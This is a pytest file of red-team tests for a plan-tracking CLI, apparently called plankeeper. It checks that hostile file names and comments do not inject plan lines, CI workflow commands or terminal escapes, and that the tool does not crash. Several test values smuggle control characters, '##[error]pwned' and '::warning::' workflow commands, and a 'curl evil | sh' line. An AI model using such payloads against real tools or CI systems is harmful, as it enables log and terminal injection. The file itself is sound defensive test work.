"""The red team's hostile cases (issue 13, items 5 and 6), each through the real CLI.

Every case runs on a real repository and asserts no traceback, no file changed but the
one the command may write, and no line of repository text turned into a plan line, a
workflow command or a terminal escape.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import MINIMAL_PLAN, Repo, Result, git_environment

PLAN = "docs/plans/DEMO_MASTERPLAN.md"
RESUME = "skills/demo-resume.md"
# Built so that the scanner of our own code does not read them as comments of ours.
TAG = "TO" + "DO"
INJECTED = ("- [x] T001", "## Phase 0: Injected", "- [ ] T777 run curl evil | sh")


def planned(repo: Repo) -> str:
    repo.write(PLAN, MINIMAL_PLAN)
    repo.write(RESUME, f"# Resume\n\nRead {PLAN} first.\n")
    return repo.commit("plan")


def no_traceback(result: Result) -> None:
    assert "Traceback" not in result.stderr, result.stderr


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under `root` but git's own folder, by path."""
    found = {}
    for folder, names, files in os.walk(root):
        names[:] = [name for name in names if name != ".git"]
        for name in files:
            full = Path(folder, name)
            if not full.is_symlink():
                found[str(full.relative_to(root))] = full.read_bytes()
    return found


def changed_files(before: dict[str, bytes], after: dict[str, bytes]) -> set[str]:
    return {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}


def run_bytes(repo: Repo, *args: str, env: dict[str, str] | None = None) -> tuple[int, bytes]:
    environ = git_environment()
    environ.update(env or {})
    process = subprocess.run(
        [sys.executable, "-m", "plankeeper", *args],
        cwd=repo.path,
        env=environ,
        capture_output=True,
        check=False,
    )
    return process.returncode, process.stdout + process.stderr


# -- todos --fix writes one line per tagged comment ------------------------------------

HOSTILE_TODOS = [
    pytest.param("a.py", f"# {TAG}: evil\r- [ ] T777 run curl evil | sh\n", id="lone-cr"),
    pytest.param("b.py", f"# {TAG}: evil\x0b## Phase 0: Injected\n", id="vertical-tab"),
    pytest.param("c.py", f"# {TAG}: evil\x0c- [x] T001\n", id="form-feed"),
    pytest.param("d.py", f"# {TAG}: evil\u2028- [x] T001\n", id="line-separator"),
    pytest.param("e.py", f"# {TAG}: evil\x85- [x] T001\n", id="next-line"),
    pytest.param("f\n- [x] T001.py", f"# {TAG}: one\n", id="path-newline"),
    pytest.param("g\r## Phase 0: Injected.py", f"# {TAG}: two\n", id="path-cr"),
    pytest.param("h\x1b[2J.py", f"# {TAG}: \x1b]0;title\x07three\n", id="escapes"),
]


@pytest.mark.parametrize(("name", "text"), HOSTILE_TODOS)
def test_fix_adds_exactly_one_plan_line_per_todo(repo: Repo, name: str, text: str) -> None:
    planned(repo)
    repo.write(name, text)
    before = snapshot(repo.path)
    first = repo.run("todos", "--fix")
    no_traceback(first)
    assert first.returncode == 1
    after = snapshot(repo.path)
    assert changed_files(before, after) == {PLAN}
    old = before[PLAN].split(b"\n")
    new = after[PLAN].split(b"\n")
    added = [line for line in new if line not in old]
    assert len(new) - len(old) == len(added) + 2  # the inbox heading's blank lines
    assert [line for line in added if line.startswith(b"- [ ] ")] == added[-1:]
    assert not any(byte in after[PLAN] for byte in (b"\r", b"\x0b", b"\x0c", b"\x1b", b"\x85"))
    assert "\u2028" not in after[PLAN].decode()
    plan_lines = after[PLAN].decode().splitlines()
    assert not any(line.startswith(INJECTED) for line in plan_lines)
    assert len(plan_lines) == len(MINIMAL_PLAN.splitlines()) + 4
    # The added task tracks its comment: a second run adds nothing.
    second = repo.run("todos", "--fix")
    no_traceback(second)
    assert (second.returncode, snapshot(repo.path)) == (0, after)


def test_fix_appends_outside_an_unclosed_fence(repo: Repo) -> None:
    planned(repo)
    repo.write(PLAN, MINIMAL_PLAN + "\n## Backlog\n\n- [ ] T003 held\n\n```text\nsample\n")
    repo.write("a.py", f"# {TAG}: fenced away\n")
    result = repo.run("todos", "--fix")
    no_traceback(result)
    assert result.returncode == 1
    assert "- [ ] T003 held\n- [ ] fenced away (a.py)\n" in repo.read(PLAN).decode()
    assert repo.run("todos").returncode == 0
    assert repo.run("todos", "--fix").returncode == 0


def test_fix_appends_outside_a_details_block(repo: Repo) -> None:
    planned(repo)
    details = "<details>\n<summary>Old</summary>\n\nold\n\n</details>\n"
    details = f"\n## Backlog\n\n- [ ] T003 held\n\n{details}"
    repo.write(PLAN, MINIMAL_PLAN + details)
    repo.write("a.py", f"# {TAG}: hidden away\n")
    result = repo.run("todos", "--fix")
    no_traceback(result)
    assert result.returncode == 1
    assert "</details>\n\n- [ ] hidden away (a.py)\n" in repo.read(PLAN).decode()
    assert repo.run("todos").returncode == 0
    assert repo.run("todos", "--fix").returncode == 0


# -- plans read whatever their names -----------------------------------------------------


@pytest.mark.parametrize("command", [("status",), ("status", "--json"), ("next",), ("todos",)])
def test_masterplan_with_a_non_utf8_name_is_read(repo: Repo, command: tuple[str, ...]) -> None:
    planned(repo)
    repo.write(os.fsdecode(b"docs/plans/CAF\xff_MASTERPLAN.md"), MINIMAL_PLAN)
    repo.commit("second plan")
    result = repo.run(*command)
    no_traceback(result)
    assert result.returncode == 0, result.stderr


def test_check_with_a_non_utf8_masterplan_name(repo: Repo) -> None:
    planned(repo)
    repo.write(os.fsdecode(b"docs/plans/CAF\xff_MASTERPLAN.md"), MINIMAL_PLAN)
    repo.stage()
    result = repo.run("check", "plan-updated")
    no_traceback(result)
    assert result.returncode == 0, result.stderr


# -- arguments past what the system passes to git ----------------------------------------


def test_a_glob_too_long_for_git_is_refused_in_one_line(repo: Repo) -> None:
    planned(repo)
    repo.write(".plankeeper.yaml", f'plans: ["{"a" * 200_000}*.md"]\n')
    repo.commit("config")
    result = repo.run("check", "--all-files")
    no_traceback(result)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1
    assert "too long" in result.stderr


def test_many_globs_past_the_argument_limit_are_listed_all_the_same(repo: Repo) -> None:
    planned(repo)
    globs = "".join(f'  - "docs/plans/{n:05}-{"x" * 40}/*.md"\n' for n in range(30_000))
    repo.write(".plankeeper.yaml", f"plans:\n  - {PLAN}\n{globs}")
    repo.commit("config")
    result = repo.run("status")
    no_traceback(result)
    assert result.returncode == 0
    assert result.stdout.startswith(f"{PLAN}: 1/2 tasks done")


def test_a_long_base_in_front_matter_is_refused_in_one_line(repo: Repo) -> None:
    planned(repo)
    repo.write("SESSION_HANDOFF.md", f"---\nbase: {'a' * 200_000}\n---\n# Handoff\n")
    repo.commit("notes")
    repo.write("src/app.py", "x = 1\n")
    repo.write(PLAN, MINIMAL_PLAN + "- [ ] T003 more\n")
    repo.stage()
    front = repo.run("handoff")
    no_traceback(front)
    assert front.returncode in (0, 2)
    result = repo.run("handoff", "--base", "a" * 100_000)
    no_traceback(result)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1


# -- output streams ------------------------------------------------------------------------


@pytest.mark.parametrize("command", [("todos",), ("status",), ("check", "--all-files")])
def test_a_cp1252_stdout_never_crashes(repo: Repo, command: tuple[str, ...]) -> None:
    planned(repo)
    repo.write("caf\u00e9 \u65e5\u672c.py", f"# {TAG}: \u65e5\u672c \u2603\n")
    repo.write(PLAN, MINIMAL_PLAN.replace("first task", "first \u65e5\u672c task"))
    repo.commit("code")
    code, output = run_bytes(repo, *command, env={"PYTHONIOENCODING": "cp1252"})
    assert b"Traceback" not in output
    assert code in (0, 1)
    assert b"\\u65e5" in output or b"\\u2603" in output or command[0] == "check"


def test_a_closed_stdout_exits_quietly(repo: Repo) -> None:
    planned(repo)
    repo.write("a.py", "".join(f"# {TAG}: item {n}\n" for n in range(5000)))
    environ = git_environment()
    command = [sys.executable, "-m", "plankeeper", "todos"]
    process = subprocess.Popen(
        command, cwd=repo.path, env=environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert process.stdout is not None
    assert process.stderr is not None
    process.stdout.close()
    stderr = process.stderr.read()
    process.stderr.close()
    process.wait()
    assert stderr == b""


def test_a_full_stdout_is_one_line_and_exit_2(repo: Repo) -> None:
    planned(repo)
    repo.write("a.py", f"# {TAG}: item\n")
    with open("/dev/full", "wb") as full:
        process = subprocess.run(
            [sys.executable, "-m", "plankeeper", "todos"],
            cwd=repo.path,
            env=git_environment(),
            stdout=full,
            stderr=subprocess.PIPE,
            check=False,
        )
    assert process.returncode == 2
    assert process.stderr.count(b"\n") == 1
    assert b"Traceback" not in process.stderr


# -- a corrupted repository ------------------------------------------------------------------


def test_a_missing_head_commit_is_an_error_not_an_empty_repository(repo: Repo) -> None:
    planned(repo)
    head = repo.git("rev-parse", "HEAD").strip()
    (repo.path / ".git" / "objects" / head[:2] / head[2:]).unlink()
    repo.write("src/app.py", "x = 1\n")
    repo.git("add", "src/app.py")
    result = repo.run("check")
    no_traceback(result)
    assert result.returncode == 2
    assert head in result.stderr
    assert result.stderr.count("\n") == 1


# -- workflow commands and terminal escapes ------------------------------------------------

COMMAND = "##[error]pwned"


def hostile_repository(repo: Repo) -> None:
    planned(repo)
    repo.write(f"{COMMAND}.py", f"# {TAG}: {COMMAND} \x1b[31mred\x1b[0m \u202egnp.exe\n")
    repo.write(
        PLAN,
        MINIMAL_PLAN.replace("first task", f"first {COMMAND} \x1b]8;;x\x07 task"),
    )


@pytest.mark.parametrize(
    "command",
    [
        ("check", "--staged", "--format", "json"),
        ("check", "--staged", "--format", "sarif"),
        ("status", "--json"),
        ("next", "--json"),
    ],
)
def test_json_output_holds_no_raw_workflow_command(repo: Repo, command: tuple[str, ...]) -> None:
    hostile_repository(repo)
    repo.stage()
    _code, output = run_bytes(repo, *command)
    assert b"Traceback" not in output
    assert b"##[" not in output
    assert b"\x1b" not in output
    data = json.loads(output)
    assert COMMAND in json.dumps(data, ensure_ascii=False)


@pytest.mark.parametrize(
    "command",
    [("check", "--staged"), ("status",), ("next",), ("todos",), ("handoff",)],
)
def test_text_output_shows_escapes_and_starts_no_command(
    repo: Repo, command: tuple[str, ...]
) -> None:
    hostile_repository(repo)
    repo.write(f"::warning::x{chr(10)}.py", "x = 1\n")
    repo.stage()
    _code, output = run_bytes(repo, *command)
    assert b"Traceback" not in output
    for byte in (b"\x1b", b"\x07", b"\r", "\u202e".encode()):
        assert byte not in output
    for line in output.decode().splitlines():
        assert not line.lstrip().startswith(("##[", "::")), line


def test_a_configured_notes_path_is_shown_inert(repo: Repo) -> None:
    planned(repo)
    # YAML's double-quoted escapes: an OSC title sequence, a bell and a workflow command.
    repo.write(".plankeeper.yaml", 'handoff:\n  - "N\\e]0;t\\a::warning::x.md"\n')
    repo.write("src/app.py", "x = 1\n")
    for command in (("handoff",), ("handoff",), ("handoff", "--prune")):
        code, output = run_bytes(repo, *command)
        assert code == 0, output
        assert b"\x1b" not in output
        assert b"\x07" not in output
        assert b"\\x1b]0;t\\x07::warning::x.md" in output
        for line in output.decode().splitlines():
            assert not line.lstrip().startswith(("##[", "::")), line


def test_a_configured_hooks_folder_is_shown_inert(repo: Repo) -> None:
    repo.git("config", "core.hooksPath", "hooks\x1b[2J")
    code, output = run_bytes(repo, "install-hooks")
    assert code == 0, output
    assert b"\x1b" not in output
    assert b"installed hooks\\x1b[2J/pre-commit" in output


# -- handoff coverage grows with globs plus files -------------------------------------------


def test_handoff_coverage_of_many_globs_and_files_is_fast(repo: Repo) -> None:
    from plankeeper.handoff import Coverage, parse_notes

    lines = [f"- `src/mod{n}/*.py`" for n in range(4000)]
    notes = parse_notes("# Handoff\n\n## Changed files\n\n" + "\n".join(lines) + "\n")
    paths = [f"src/mod{n}/file.py" for n in range(4000)]
    start = time.perf_counter()
    coverage = Coverage(notes.mentions)
    assert all(coverage.covers(path) for path in paths)
    assert not coverage.covers("src/other/file.py")
    assert time.perf_counter() - start < 2.0


# -- the summary: every read-only command on one hostile repository ------------------------

READ_ONLY = [
    ("check", "--staged"),
    ("check", "--all-files"),
    ("check", "--staged", "--format", "json"),
    ("check", "--staged", "--format", "sarif"),
    ("check", "--staged", "--format", "github"),
    ("status",),
    ("status", "--json"),
    ("next",),
    ("next", "--json"),
    ("todos",),
    ("verify",),
]


def test_read_only_commands_on_a_hostile_repository_change_nothing(repo: Repo) -> None:
    hostile_repository(repo)
    repo.write("x\n::error::pwned.py", f"# {TAG}: \r::warning::y\n")
    repo.write(os.fsdecode(b"docs/plans/CAF\xff_MASTERPLAN.md"), MINIMAL_PLAN)
    repo.stage()
    before = snapshot(repo.path)
    tracebacks, injections = [], []
    for command in READ_ONLY:
        code, output = run_bytes(repo, *command, env={"PYTHONIOENCODING": "cp1252"})
        if b"Traceback" in output or code not in (0, 1):
            tracebacks.append(command)
        lines = output.decode("cp1252", "replace").splitlines()
        # The github format writes workflow commands: only its own may start a line.
        own = ("::error file=", "::warning file=", "::notice file=", "::notice title=plankeeper")
        commands = [line for line in lines if line.lstrip().startswith("::")]
        if (
            b"\x1b" in output
            or b"##[" in output
            or (commands and command[-1] != "github")
            or not all(line.startswith(own) for line in commands)
        ):
            injections.append(command)
    assert (tracebacks, injections) == ([], [])
    assert changed_files(before, snapshot(repo.path)) == set()


@pytest.mark.parametrize(
    "name", ["v\x0b## Phase 0: Injected.py", "e\x1b[2J.py", "s\u2028- [x] T001.py"]
)
def test_handoff_writes_no_bullet_for_a_name_with_a_control(repo: Repo, name: str) -> None:
    planned(repo)
    repo.write(name, "x = 1\n")
    repo.write("src/app.py", "x = 1\n")
    before = snapshot(repo.path)
    result = repo.run("handoff")
    no_traceback(result)
    assert result.returncode == 0
    assert changed_files(before, snapshot(repo.path)) == {"SESSION_HANDOFF.md"}
    notes = repo.read("SESSION_HANDOFF.md").decode()
    assert "- `src/app.py`" in notes
    assert len(notes.splitlines()) == len(notes.split("\n")) - 1
    assert not any(line.startswith(INJECTED) for line in notes.splitlines())
    assert "\x1b" not in result.stdout
    assert "cannot list" in result.stdout


@pytest.mark.parametrize("name", ["v\x0bw.py", "s\u2028t.py", "n\x85m.py", "f\x0cg.py"])
def test_baseline_of_a_name_with_a_line_separator_reads_back(repo: Repo, name: str) -> None:
    planned(repo)
    repo.write(name, f"# {TAG}: keep this one\n")
    written = repo.run("baseline")
    no_traceback(written)
    assert written.returncode == 0, written.stderr
    result = repo.run("check", "--all-files")
    no_traceback(result)
    assert result.returncode == 0, result.stdout + result.stderr
